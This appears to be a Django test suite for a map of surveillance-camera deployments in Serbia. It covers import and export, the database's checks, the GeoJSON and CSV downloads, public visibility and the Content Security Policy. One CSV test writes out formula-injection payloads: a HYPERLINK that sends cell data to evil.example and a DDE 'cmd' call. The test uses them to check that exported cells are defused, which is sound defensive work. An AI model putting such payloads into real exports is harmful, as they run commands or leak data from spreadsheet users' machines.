"""Deployments (technology in use, where, how many, who says so): their JSON form, the
database's own checks, the /map/ page and its GeoJSON and CSV downloads, what the public
may see, and the map's Content Security Policy with and without a tile server."""

import csv
import io
import json
import re
import runpy
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ImproperlyConfigured
from django.db import IntegrityError, transaction
from django.test import override_settings

from records.deployments.views import CSV_COLUMNS
from records.models import (
    Actor,
    ActorKind,
    CountBasis,
    Deployment,
    Language,
    Record,
    Role,
    Status,
    Technology,
)
from records.records.services import ImportFailed, export_jsonl, import_jsonl
from tests.factories import ActorFactory, DeploymentFactory, safe_city_graph

pytestmark = pytest.mark.django_db

ROOT = Path(settings.BASE_DIR)
BELGRADE = {"latitude": 44.8125, "longitude": 20.4612}
OSM_TILES = "https://{s}.tile.openstreetmap.org/{z}/{x}/{y}.png"


def deployment_line(public_id="belgrade-1000-cameras", **deployment):
    fields = {
        "technology": "face_recognition",
        "place": "Beograd",
        **BELGRADE,
        "device_count": 1000,
        "count_basis": "announced",
        **deployment,
    }
    return json.dumps(
        {
            "id": public_id,
            "kind": "deployment",
            "title": "Beograd: najavljeno oko 1.000 kamera",
            "summary": "Tačka označava grad, ne kameru.",
            "body": "",
            "date": "2019-01-31",
            "language": "sr-Latn",
            "status": "published",
            "tags": ["cameras"],
            "source_url": "https://example.org/source",
            "actors": [
                {"name": "MUP", "kind": "public_body", "role": "operator"},
                {"name": "Huawei", "kind": "company", "role": "vendor"},
            ],
            "links": [],
            "deployment": fields,
        },
        ensure_ascii=False,
    )


def export_all():
    return "".join(export_jsonl(Record.objects.all()))


def belgrade(**fields):
    """A published deployment at Belgrade's centre, run by MUP with Huawei's cameras."""
    mup = ActorFactory(name="Ministarstvo unutrašnjih poslova", kind=ActorKind.PUBLIC_BODY)
    huawei = ActorFactory(name="Huawei", kind=ActorKind.COMPANY)
    defaults = {
        "public_id": "belgrade-1000",
        "title": "1,000 cameras announced",
        "technology": Technology.FACE_RECOGNITION,
        "place": "Belgrade",
        "latitude": Decimal("44.8125"),
        "longitude": Decimal("20.4612"),
        "device_count": 1000,
        "count_basis": CountBasis.ANNOUNCED,
        "date": "2019-01-31",
        "date_precision": 3,
        "source_url": "https://example.org/announcement",
        "actors": [(mup, Role.OPERATOR), (huawei, Role.VENDOR)],
    }
    return DeploymentFactory(**{**defaults, **fields})


def geojson(client, query=""):
    response = client.get("/map/deployments.geojson" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    return json.loads(response.content)


def csv_rows(client, query=""):
    response = client.get("/map/deployments.csv" + query)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline=""))
    assert reader.fieldnames == CSV_COLUMNS
    return list(reader)


def json_block(page, name):
    """A JSON block the page hands to static/js/map.js."""
    block = re.search(rf'<script id="{name}" type="application/json">(.*?)</script>', page)
    return json.loads(block.group(1))


def map_places(page):
    """The markers: one per place, each listing the deployments there."""
    return json_block(page, "map-places")


# --- the JSON Lines form ------------------------------------------------------------------


def test_a_deployment_round_trips_with_its_numbers_as_json_numbers():
    import_jsonl([deployment_line()])
    first = export_all()
    data = json.loads(first)
    assert data["deployment"] == {
        "technology": "face_recognition",
        "place": "Beograd",
        "latitude": 44.8125,
        "longitude": 20.4612,
        "device_count": 1000,
        "count_basis": "announced",
    }
    assert '"latitude": 44.8125' in first and '"device_count": 1000' in first
    assert {(a["name"], a["role"]) for a in data["actors"]} == {
        ("MUP", "operator"),
        ("Huawei", "vendor"),
    }

    Record.objects.all().delete()
    Actor.objects.all().delete()
    import_jsonl([first])
    assert export_all() == first
    stored = Deployment.objects.get()
    assert (stored.latitude, stored.longitude) == (Decimal("44.8125"), Decimal("20.4612"))


def test_importing_the_same_deployment_again_changes_nothing():
    # 20.4612 has no exact binary form: the stored Decimal must still equal the line's.
    import_jsonl([deployment_line()])
    stamp = Deployment.objects.get().updated_at
    result = import_jsonl([deployment_line()])
    assert (result.created, result.updated, result.unchanged) == ([], [], ["belgrade-1000-cameras"])
    assert Deployment.objects.get().updated_at == stamp


def test_a_deployment_without_coordinates_or_count_round_trips_as_nulls():
    import_jsonl(
        [deployment_line(latitude=None, longitude=None, device_count=None, count_basis="")]
    )
    data = json.loads(export_all())["deployment"]
    assert data["latitude"] is None and data["longitude"] is None
    assert data["device_count"] is None


@pytest.mark.parametrize(
    "coordinates", [{"latitude": 44.8125, "longitude": None}, {"longitude": 20.4612}]
)
def test_import_refuses_one_coordinate_without_the_other_and_saves_nothing(coordinates):
    document = json.loads(deployment_line("a-document"))
    del document["deployment"]
    document.update(kind="document", document={"document_type": "report"})
    line = json.loads(deployment_line())
    line["deployment"] = {
        k: v for k, v in line["deployment"].items() if k not in ("latitude", "longitude")
    } | coordinates
    with pytest.raises(ImportFailed) as failure:
        import_jsonl([json.dumps(document), json.dumps(line)])
    assert failure.value.line == 2
    assert "give both latitude and longitude, or neither" in failure.value.reason
    assert not Record.objects.exists() and not Actor.objects.exists()


@pytest.mark.parametrize(
    ("fields", "message"),
    [
        ({"latitude": 91, "longitude": 20.4612}, "'latitude': Ensure this value is less than"),
        ({"latitude": 100.5, "longitude": 20.4612}, "'latitude': Ensure this value is less"),
        ({"latitude": 44.8, "longitude": 181}, "'longitude': Ensure this value is less than"),
        ({"latitude": 44.8, "longitude": -180.5}, "'longitude': Ensure this value is greater"),
        ({"device_count": -1}, "'device_count'"),
        ({"latitude": "north", "longitude": 20.4612}, "'latitude'"),
        ({"device_count": True}, "'device_count' must be a number"),
    ],
)
def test_import_refuses_out_of_range_or_non_numbers_and_saves_nothing(fields, message):
    with pytest.raises(ImportFailed) as failure:
        import_jsonl([deployment_line("fine", place="Novi Sad"), deployment_line(**fields)])
    assert failure.value.line == 2
    assert message in failure.value.reason  # the field's own message, not the database's
    assert not Record.objects.exists() and not Deployment.objects.exists()


def test_import_refuses_an_unknown_technology_or_count_basis():
    for fields in ({"technology": "telepathy"}, {"count_basis": "rumoured"}):
        with pytest.raises(ImportFailed) as failure:
            import_jsonl([deployment_line(**fields)])
        assert next(iter(fields)) in failure.value.reason
    assert not Record.objects.exists()


# --- the database's own checks (whatever writes to it) -----------------------------------


@pytest.mark.parametrize(
    "fields",
    [
        {"latitude": Decimal("44.8"), "longitude": None},
        {"latitude": None, "longitude": Decimal("20.4")},
        {"latitude": Decimal("90.5"), "longitude": Decimal("20.4")},
        {"latitude": Decimal("-90.5"), "longitude": Decimal("20.4")},
        {"latitude": Decimal("44.8"), "longitude": Decimal("180.5")},
        {"latitude": Decimal("44.8"), "longitude": Decimal("-180.5")},
        {"technology": "telepathy"},
        {"count_basis": "rumoured"},
    ],
)
def test_the_database_refuses_impossible_deployments(fields):
    with pytest.raises(IntegrityError), transaction.atomic():
        DeploymentFactory(**fields)
    assert not Deployment.objects.exists()


def test_the_database_takes_the_extremes_and_no_coordinates():
    DeploymentFactory(latitude=Decimal("-90"), longitude=Decimal("180"))
    DeploymentFactory(latitude=Decimal("90"), longitude=Decimal("-180"))
    DeploymentFactory(latitude=None, longitude=None, count_basis="")
    assert Deployment.objects.count() == 3


# --- the page ----------------------------------------------------------------------------


def test_map_page_lists_each_deployment_in_a_table_row_named_by_its_id(client):
    belgrade()
    page = client.get("/map/").content.decode()
    row = re.search(r'<tr id="belgrade-1000">(.*?)</tr>', page, re.S).group(1)
    assert 'href="/r/belgrade-1000/"' in row and "1,000 cameras announced" in row
    assert "Face recognition" in row and "Belgrade" in row
    assert "1,000" in row and "(announced)" in row
    assert "Ministarstvo unutrašnjih poslova" in row and "Huawei" in row
    assert "January 31, 2019" in row or "Jan. 31, 2019" in row
    # The map is described, and the table is its text alternative.
    assert 'aria-label="Map of the deployments listed in the table below"' in page
    assert 'href="/map/deployments.geojson"' in page and 'href="/map/deployments.csv"' in page


def test_the_map_gets_one_marker_per_place_listing_every_deployment_there(client):
    belgrade()
    belgrade(public_id="belgrade-8100", title="8,100 planned", device_count=8100)
    DeploymentFactory(
        public_id="novi-sad", place="Novi Sad", latitude="45.2671", longitude="19.8335"
    )
    places = map_places(client.get("/map/").content.decode())
    by_name = {place["name"]: place for place in places}
    assert set(by_name) == {"Belgrade", "Novi Sad"}
    assert [item["id"] for item in by_name["Belgrade"]["items"]] == [
        "belgrade-1000",
        "belgrade-8100",
    ]
    assert by_name["Belgrade"]["label"] == "Belgrade: 2 deployments"
    assert (by_name["Belgrade"]["lat"], by_name["Belgrade"]["lon"]) == (44.8125, 20.4612)
    item = by_name["Belgrade"]["items"][1]
    assert item["url"] == "/r/belgrade-8100/" and item["count"] == "8,100 (announced)"


def test_the_map_page_says_when_no_tiles_are_configured_and_which_rows_have_no_place(client):
    belgrade()
    DeploymentFactory(public_id="somewhere", place="", latitude=None, longitude=None)
    page = client.get("/map/").content.decode()
    assert "No map tiles are configured; the outline is from Natural Earth." in page
    assert "1 deployment has no coordinates" in page
    assert '<tr id="somewhere">' in page
    assert [p["items"][0]["id"] for p in map_places(page)] == ["belgrade-1000"]


def test_a_record_page_links_to_its_row_and_marker_on_the_map(client):
    belgrade()
    page = client.get("/r/belgrade-1000/").content.decode()
    assert 'href="/map/#belgrade-1000"' in page
    assert "44.812500, 20.461200" in page and "1,000 (announced)" in page


def test_serbian_map_page_shows_latin_places_in_cyrillic(client):
    belgrade(public_id="bg", place="Beograd", language=Language.SR_LATN, title="Kamere")
    page = client.get("/sr/map/").content.decode()
    assert '<tr id="bg">' in page and "Београд" in page and "Камере" in page
    assert map_places(page)[0]["name"] == "Београд"


# --- downloads -----------------------------------------------------------------------------


def test_geojson_is_a_feature_collection_with_longitude_first(client):
    belgrade()
    DeploymentFactory(public_id="london", place="London", latitude="51.5074", longitude="-0.1278")
    data = geojson(client)
    assert data["type"] == "FeatureCollection"
    features = {feature["id"]: feature for feature in data["features"]}
    feature = features["belgrade-1000"]
    assert feature["type"] == "Feature"
    # RFC 7946: [longitude, latitude]. Belgrade is at 20.46 E, 44.81 N.
    assert feature["geometry"] == {"type": "Point", "coordinates": [20.4612, 44.8125]}
    assert features["london"]["geometry"]["coordinates"] == [-0.1278, 51.5074]
    assert feature["properties"] == {
        "id": "belgrade-1000",
        "title": "1,000 cameras announced",
        "language": "en",
        "technology": "face_recognition",
        "technology_label": "Face recognition",
        "place": "Belgrade",
        "device_count": 1000,
        "count_basis": "announced",
        "count_basis_label": "announced",
        "date": "2019-01-31",
        "operators": ["Ministarstvo unutrašnjih poslova"],
        "vendors": ["Huawei"],
        "url": "http://testserver/r/belgrade-1000/",
        "source_url": "https://example.org/announcement",
    }


def test_geojson_leaves_out_deployments_without_coordinates_and_the_csv_keeps_them(client):
    belgrade()
    DeploymentFactory(public_id="unplaced", latitude=None, longitude=None, device_count=None)
    assert [feature["id"] for feature in geojson(client)["features"]] == ["belgrade-1000"]
    rows = {row["id"]: row for row in csv_rows(client)}
    assert set(rows) == {"belgrade-1000", "unplaced"}
    assert rows["unplaced"]["latitude"] == rows["unplaced"]["device_count"] == ""


def test_csv_has_the_same_columns_in_utf8_with_numbers_as_numbers(client):
    belgrade(title="Београд: 1.000 камера", language=Language.SR_CYRL)
    DeploymentFactory(public_id="london", place="London", latitude="51.5074", longitude="-0.1278")
    rows = {row["id"]: row for row in csv_rows(client)}
    row = rows["belgrade-1000"]
    assert row["title"] == "Београд: 1.000 камера"
    assert (row["latitude"], row["longitude"]) == ("44.8125", "20.4612")
    assert (row["device_count"], row["count_basis"]) == ("1000", "announced")
    assert row["date"] == "2019-01-31"
    assert row["operators"] == "Ministarstvo unutrašnjih poslova" and row["vendors"] == "Huawei"
    assert row["url"] == "http://testserver/r/belgrade-1000/"
    # A negative number is a number, not a formula to defuse.
    assert rows["london"]["longitude"] == "-0.1278"


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_defused(client):
    attacker = ActorFactory(name="@SUM(1+1)*cmd|' /C calc'!A0", kind=ActorKind.COMPANY)
    DeploymentFactory(
        public_id="formula",
        title='=HYPERLINK("http://evil.example/?"&A1,"click")',
        place="+381 11 123",
        summary="",
        source_url="",
        actors=[(attacker, Role.VENDOR)],
    )
    DeploymentFactory(public_id="minus", title="-2+3", place="\tTab")
    rows = {row["id"]: row for row in csv_rows(client)}
    assert rows["formula"]["title"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert rows["formula"]["place"] == "'+381 11 123"
    assert rows["formula"]["vendors"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["minus"]["title"] == "'-2+3" and rows["minus"]["place"] == "'\tTab"
    for row in rows.values():
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or column in (
                "latitude",
                "longitude",
            ), (column, value)


def test_filters_narrow_the_page_and_both_downloads_alike(client):
    graph = safe_city_graph()
    belgrade()
    DeploymentFactory(
        public_id="cctv-novi-sad",
        technology=Technology.CCTV,
        place="Novi Sad",
        actors=[(graph["share"], Role.AUTHOR)],
    )
    for query, expected in (
        ("?technology=face_recognition", {"belgrade-1000"}),
        ("?technology=cctv", {"cctv-novi-sad"}),
        ("?actor=huawei", {"belgrade-1000"}),
        (f"?actor={graph['share'].slug}", {"cctv-novi-sad"}),
        ("?technology=cctv&actor=huawei", set()),
    ):
        page = client.get("/map/" + query).content.decode()
        shown = set(re.findall(r'<tr id="([^"]+)">', page))
        assert shown == expected, query
        assert {f["id"] for f in geojson(client, query)["features"]} == expected, query
        assert {row["id"] for row in csv_rows(client, query)} == expected, query
        assert f'href="/map/deployments.csv{query}"'.replace("&", "&amp;") in page


def test_a_download_with_a_filter_it_cannot_use_says_so(client):
    response = client.get("/map/deployments.geojson?technology=telepathy")
    assert response.status_code == 400
    assert "technology" in response.content.decode()
    assert client.get("/map/deployments.csv?actor=nobody").status_code == 400
    assert "Some filters could not be used" in client.get("/map/?technology=x").content.decode()


# --- what the public may see ---------------------------------------------------------------


@pytest.mark.parametrize("status", [Status.DRAFT, Status.REVIEW])
def test_an_unpublished_deployment_appears_nowhere(client, status):
    belgrade()
    secret = ActorFactory(name="Secret Vendor Ltd", kind=ActorKind.COMPANY)
    DeploymentFactory(
        public_id="unpublished-pilot",
        title="Unpublished pilot of face recognition",
        status=status,
        latitude="45.2671",
        longitude="19.8335",
        actors=[(secret, Role.VENDOR)],
    )
    page = client.get("/map/").content.decode()
    csv_text = client.get("/map/deployments.csv").content.decode()
    geo_text = client.get("/map/deployments.geojson").content.decode()
    for text in (page, csv_text, geo_text):
        assert "unpublished-pilot" not in text and "Unpublished pilot" not in text
        assert "Secret Vendor" not in text  # not even as a filter choice
        assert "belgrade-1000" in text
    assert len(map_places(page)) == 1


def test_the_map_with_no_published_deployments_says_so(client):
    DeploymentFactory(status=Status.DRAFT)
    page = client.get("/map/").content.decode()
    assert "No deployments yet." in page
    assert map_places(page) == []
    assert geojson(client)["features"] == []
    assert csv_rows(client) == []


# --- tiles and the Content Security Policy -------------------------------------------------


def settings_with(monkeypatch, **environment):
    """archive/settings.py read afresh with ``environment`` (the running settings stay)."""
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    return runpy.run_path(str(ROOT / "archive" / "settings.py"))


def test_without_tiles_the_map_loads_images_from_this_host_only(client):
    assert settings.MAP_TILE_URL == ""
    response = client.get("/map/")
    csp = response["Content-Security-Policy"]
    assert "img-src 'self' data:;" in csp
    assert "style-src 'self';" in csp and "unsafe-inline" not in csp
    assert json_block(response.content.decode(), "map-config")["tileUrl"] == ""


def test_a_tile_server_is_allowed_by_the_csp_and_handed_to_the_map(client, monkeypatch):
    configured = settings_with(
        monkeypatch,
        MAP_TILE_URL=OSM_TILES,
        MAP_TILE_ATTRIBUTION="© OpenStreetMap contributors",
    )
    assert configured["SECURE_CSP"]["img-src"][-1] == "https://*.tile.openstreetmap.org"
    # The running settings are not changed by reading them afresh.
    assert "https://*.tile.openstreetmap.org" not in settings.SECURE_CSP["img-src"]
    with override_settings(
        MAP_TILE_URL=configured["MAP_TILE_URL"],
        MAP_TILE_ATTRIBUTION=configured["MAP_TILE_ATTRIBUTION"],
        SECURE_CSP=configured["SECURE_CSP"],
    ):
        response = client.get("/map/")
    csp = response["Content-Security-Policy"]
    assert "img-src 'self' data: https://*.tile.openstreetmap.org;" in csp
    assert "script-src 'self' 'nonce-" in csp and "connect-src 'self';" in csp
    page = response.content.decode()
    config = json_block(page, "map-config")
    assert config["tileUrl"] == "https://{s}.tile.openstreetmap.org/{z}/{x}/{y}.png"
    assert config["tileAttribution"] == "© OpenStreetMap contributors"
    assert "No map tiles are configured" not in page


@pytest.mark.parametrize(
    ("url", "source"),
    [
        ("https://tiles.example.org/{z}/{x}/{y}.png?key=abc", "https://tiles.example.org"),
        ("http://127.0.0.1:8080/osm/{z}/{x}/{y}{r}.png", "http://127.0.0.1:8080"),
        ("https://{s}.basemaps.example.com/a/{z}/{x}/{y}.png", "https://*.basemaps.example.com"),
    ],
)
def test_the_csp_allows_exactly_the_tile_servers_origin(monkeypatch, url, source):
    configured = settings_with(monkeypatch, MAP_TILE_URL=url, MAP_TILE_ATTRIBUTION="Tiles")
    assert configured["SECURE_CSP"]["img-src"] == ["'self'", "data:", source]


@pytest.mark.parametrize(
    ("environment", "message"),
    [
        ({"MAP_TILE_URL": "ftp://tiles.example.org/{z}/{x}/{y}.png"}, "https://"),
        ({"MAP_TILE_URL": "https://tiles.example.org/tile.png"}, "{z}, {x} and {y}"),
        ({"MAP_TILE_URL": "https://a{s}.example.org/{z}/{x}/{y}.png"}, "first label"),
        ({"MAP_TILE_URL": "https:///{z}/{x}/{y}.png"}, "host name"),
    ],
)
def test_a_tile_url_that_would_not_work_stops_the_start(monkeypatch, environment, message):
    with pytest.raises(ImproperlyConfigured, match=re.escape(message)):
        settings_with(monkeypatch, MAP_TILE_ATTRIBUTION="Tiles", **environment)


def test_tiles_without_an_attribution_stop_the_start(monkeypatch):
    monkeypatch.delenv("MAP_TILE_ATTRIBUTION", raising=False)
    with pytest.raises(ImproperlyConfigured, match="MAP_TILE_ATTRIBUTION"):
        settings_with(monkeypatch, MAP_TILE_URL=OSM_TILES)


# --- only the map page loads the map -------------------------------------------------------


def test_only_the_map_page_loads_leaflet_and_it_comes_from_this_host(client):
    graph = safe_city_graph()
    deployment = belgrade()
    page = client.get("/map/").content.decode()
    assert '<script src="/static/vendor/leaflet/leaflet.js" defer nonce="' in page
    assert '<script src="/static/js/map.js" defer nonce="' in page
    assert '<link rel="stylesheet" href="/static/vendor/leaflet/leaflet.css">' in page
    assert not re.search(r"""src=["']?(https?:)?//""", page)
    assert not re.search(r"""rel="stylesheet" href="(https?:)?//""", page)
    for url in (
        "/",
        "/records/",
        "/timeline/",
        "/charts/",
        "/actors/",
        "/questions/",
        "/search/?q=cameras",
        graph["opinion"].get_absolute_url(),
        deployment.get_absolute_url(),
    ):
        other = client.get(url).content.decode().lower()
        assert "leaflet" not in other and "map.js" not in other, url


def test_the_vendored_map_files_are_in_the_repository_with_their_licences():
    leaflet = ROOT / "static" / "vendor" / "leaflet"
    assert "Leaflet 1.9.4" in (leaflet / "leaflet.js").read_text(encoding="utf-8")[:200]
    assert "BSD 2-Clause License" in (leaflet / "LICENSE").read_text(encoding="utf-8")
    for name in ("leaflet.css", "images/layers.png", "images/marker-icon.png"):
        assert (leaflet / name).is_file(), name
    geo = ROOT / "static" / "geo"
    readme = (geo / "README.md").read_text(encoding="utf-8")
    assert "Natural Earth" in readme and "public domain" in readme


def test_the_outline_is_serbia_and_its_neighbours_in_longitude_latitude_order():
    outline = json.loads(
        (ROOT / "static" / "geo" / "serbia-region.geojson").read_text(encoding="utf-8")
    )
    assert outline["type"] == "FeatureCollection"
    countries = {feature["properties"]["name"]: feature for feature in outline["features"]}
    assert {"Serbia", "Kosovo", "Hungary", "Croatia", "Bosnia and Herz."} <= set(countries)
    serbia = countries["Serbia"]["geometry"]["coordinates"][0]
    longitudes = [point[0] for point in serbia]
    latitudes = [point[1] for point in serbia]
    # Serbia lies between about 18.8 and 23.0 E, 42.2 and 46.2 N.
    assert 18.5 < min(longitudes) < max(longitudes) < 23.1
    assert 42.0 < min(latitudes) < max(latitudes) < 46.3
    label = countries["Serbia"]["properties"]["label"]
    assert 18.8 < label[0] < 23.0 and 42.2 < label[1] < 46.2
    assert countries["Serbia"]["properties"]["focus"] is True
